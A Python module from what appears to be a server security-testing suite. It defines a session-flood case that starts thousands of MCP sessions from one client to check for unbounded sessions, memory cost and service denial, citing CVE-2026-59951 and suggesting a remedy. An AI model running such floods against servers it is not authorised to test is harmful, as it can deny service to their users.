"""One client that takes all there is of something: sessions, streams, calls whose client has left."""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING

from holdfast_attack.cases.http.knocking import WITHIN, control, knock, listing
from holdfast_attack.cases.http.sessions import another, elsewhere
from holdfast_attack.link.http import HttpSession
from holdfast_attack.link.messages import encoded, initialize
from holdfast_attack.model import Case, Found, Inconclusive, NotApplicable, Severity
from holdfast_attack.model.case import HTTP, Eras, advisory

if TYPE_CHECKING:
    from holdfast_attack.link.rawhttp import RawConnection
    from holdfast_attack.play.probe import Probe

MIB = 2**20
SESSIONS, SESSIONS_FULL = 110, 12_000
"""12,000: more than the bound of 10,000 that was set for CVE-2026-59951."""
WORKERS = 8
REFUSALS = 40
"""Sessions that were refused, after which the bound is seen."""
EACH = 256 * 1024
"""Bytes of memory that a session may cost; measured: 60 to 100 kB in the Python SDK."""


class Flood:
    """Begins sessions as fast as the server lets it, over connections that stay open."""

    def __init__(self, session: HttpSession, most: int, ends: float) -> None:
        self.ids: list[str] = []
        self.refused = 0
        self._session, self._most, self._ends = session, most, ends
        outside: dict[str, str | None] = {"mcp-session-id": None, "mcp-protocol-version": None}
        self._hello = session.request_bytes("POST", encoded(initialize(session.lane.version, 0)), headers=outside)

    async def run(self) -> None:
        """Raises ``Gone`` when the server takes no connections any more."""
        await asyncio.gather(*(self._work() for _ in range(WORKERS)))

    def _goes_on(self) -> bool:
        return len(self.ids) < self._most and self.refused < REFUSALS and time.monotonic() < self._ends

    async def _work(self) -> None:
        connection: RawConnection | None = None
        try:
            while self._goes_on():
                connection = connection or await self._session.open()
                answer = await connection.exchange(self._hello, WITHIN)
                head = answer.head
                if head is None or answer.cut or "close" in head.headers.get("connection", "").lower():
                    connection.close()
                    connection = None
                if head is None and not answer.cut:
                    raise Found(f"after {len(self.ids)} sessions of one client none can be begun", sent=self._hello)
                name = head.headers.get("mcp-session-id") if head is not None else None
                self.ids += [name] if name is not None and head is not None and head.status < 300 else []
                self.refused += head is not None and head.status >= 400
        finally:
            if connection is not None:
                connection.close()


@asynccontextmanager
async def ground(probe: Probe) -> AsyncIterator[HttpSession]:
    """The shared server for a shower, one of its own for a flood that may leave it useless."""
    if not probe.full:
        session = await probe.http()
        await control(session)
        yield session
        return
    async with probe.fresh_http() as session:
        await control(session)
        yield session


async def _sessions(probe: Probe) -> int:
    async with ground(probe) as session:
        if session.session_id is None:
            raise NotApplicable("it keeps no sessions")
        most = SESSIONS_FULL if probe.full else SESSIONS
        before = None if session.tree is None else session.tree.rss()
        flood = Flood(session, most, time.monotonic() + probe.left - 25)
        await flood.run()
        after = None if session.tree is None else session.tree.rss()
        number = len(flood.ids)
        if before is not None and after is not None and number >= 100 and (after - before) / number > EACH:
            raise Found(f"each of {number} sessions costs {(after - before) // number // 1024} KiB of memory")
        if not await _served(session) and not await _another_served(session):
            raise Found(f"after {number} sessions of one client nobody else is served")
        if probe.full:
            await _bounded(session, flood, most)
        await _tidied(session, flood.ids)
    return number + flood.refused


async def _bounded(session: HttpSession, flood: Flood, most: int) -> None:
    """There must be an end to the sessions that are kept. Raises ``Found``, or ``Inconclusive``."""
    if flood.refused:
        return
    if len(flood.ids) < most:
        raise Inconclusive(f"no more than {len(flood.ids):,} sessions could be begun in time")
    first = [await knock(session, listing(session, {"mcp-session-id": name})) for name in flood.ids[:5]]
    if all(came.served for came in first):
        raise Found(f"{len(flood.ids):,} sessions of one client are kept, and none was refused or ended")


async def _served(session: HttpSession) -> bool:
    """Whether the client that was there before is served, in the session that it has."""
    return (await knock(session, listing(session))).served


async def _another_served(session: HttpSession) -> bool:
    try:
        async with another(session, elsewhere(session)) as other:
            return await _served(other)
    except Inconclusive:
        return False


async def _tidied(session: HttpSession, ids: Sequence[str]) -> None:
    """End the sessions on a server that goes on."""
    for name in () if session.server is not None and len(ids) > SESSIONS else ids:
        await session.request("DELETE", headers={"mcp-session-id": name})


CASES = (
    Case(
        id="http.session-flood",
        title="Sessions without number",
        severity=Severity.HIGH,
        sends=f"{SESSIONS} sessions (full: {SESSIONS_FULL:,}) that are begun and never ended.",
        sound="Serves others meanwhile, bounds how many there are, and spends little memory on each.",
        reference=advisory("CVE-2026-59951 (Python SDK: sessions without number or end)"),
        remedy="Bound the sessions in all and for each caller, and end those that are idle.",
        play=_sessions,
        transports=HTTP,
        eras=Eras.LEGACY,
        seconds=240.0,
        advisories=("CVE-2026-59951",),
    ),
)
